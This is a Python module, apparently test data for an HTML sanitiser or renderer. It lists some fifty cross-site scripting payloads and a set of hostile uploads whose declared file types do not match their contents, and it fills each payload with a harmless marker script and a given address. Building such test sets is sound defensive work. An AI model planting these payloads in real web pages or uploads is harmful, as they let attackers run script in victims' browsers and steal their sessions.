"""What strangers put where words belong. Each, were it to run, sets a mark and asks a foreign host.

``{js}`` is the script, ``{url}`` an address of the foreign host.
"""

PAYLOADS = (
    "<script>{js}</script>",
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</style></script><script>{js}</script>",
    "--><script>{js}</script>",
    '<script src="{url}"></script>',
    "<ScRiPt/x>{js}</sCrIpT>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    '<img src=x onerror="{js}">',
    '"><img src=x onerror={js} x="',
    "<img src=x onerror={js}//",
    '" autofocus onfocus="{js}" x="',
    '<svg onload="{js}">',
    "<svg><script>{js}</script></svg>",
    '<svg><animate onbegin="{js}" attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:{js}"><text x=20 y=20>press</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload={js}></svg>#x"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="{js}">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<details open ontoggle="{js}">x</details>',
    '<body onload="{js}" onpageshow="{js}">',
    '<input autofocus onfocus="{js}">',
    '<video autoplay onloadstart="{js}"><source src=x onerror="{js}"></video>',
    '<iframe src="javascript:parent.{js}"></iframe>',
    '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
    '<object data="javascript:{js}"></object><embed src="javascript:{js}">',
    '<a href="javascript:{js}">press</a>',
    '<a href="java\tscript:{js}">press</a>',
    '<a href="&#106;avascript&colon;{js}">press</a>',
    '<a href="data:text/html,<script>{js}</script>">press</a>',
    '<a href="https://shop.example" onmouseover="{js}" onclick="{js}">press</a>',
    '<form action="javascript:{js}"><button>press</button></form>',
    '<form id=f></form><button form=f formaction="javascript:{js}">press</button>',
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<base href="{url}/"><a href="x">press</a>',
    '<link rel="stylesheet" href="{url}"><style>@import "{url}";</style>',
    '<div style="background:url({url});position:fixed;inset:0">press</div>',
    '<img src="{url}"><img srcset="{url} 1x">',
    '<div hx-get="{url}" hx-trigger="load" hx-on::load="{js}">x</div>',
    '<div data-hx-get="{url}" data-hx-trigger="load" data-look="inbox" data-key="j">x</div>',
    '<template shadowrootmode=open><img src=x onerror="{js}"></template>',
    "<xmp><script>{js}</script></xmp><plaintext>",
    "{{{{constructor.constructor('{js}')()}}}}{{% debug %}}${{{js}}}",
    "javascript:{js}",
    'https://shop.example/"onmouseover="{js}',
    "https://shop.example/'><script>{js}</script>",
    "\u2028<script>{js}</script>\u202e",
    "<!--[if gte IE 4]><script>{js}</script><![endif]--><![CDATA[><script>{js}</script>]]>",
)

PAGE = "<!doctype html><title>x</title><body onload='{js}'><script>{js}</script>"
DRAWING = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{js}">'
    "<script>{js}</script><image href='{url}'/></svg>"
)
DOCUMENT = (
    '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>{js}</script></html>'
)
# Name, type the sender claims, content.
FILES = (
    ("page.html", "text/html", PAGE),
    ("page.txt", "text/html", PAGE),
    ("picture.png", "image/png", PAGE),
    ("picture.svg", "image/svg+xml", DRAWING),
    ("letter.xhtml", "application/xhtml+xml", DOCUMENT),
    ("letter.xml", "text/xml", DOCUMENT),
    ("page.pdf.html", "application/pdf", PAGE),
    ("page", "", PAGE),
    ("archive.mhtml", "multipart/related", PAGE),
)


def armed(text: str, url: str) -> str:
    """The attack with its script and address in."""
    return text.format(js="(window.wasRun=1)", url=url)
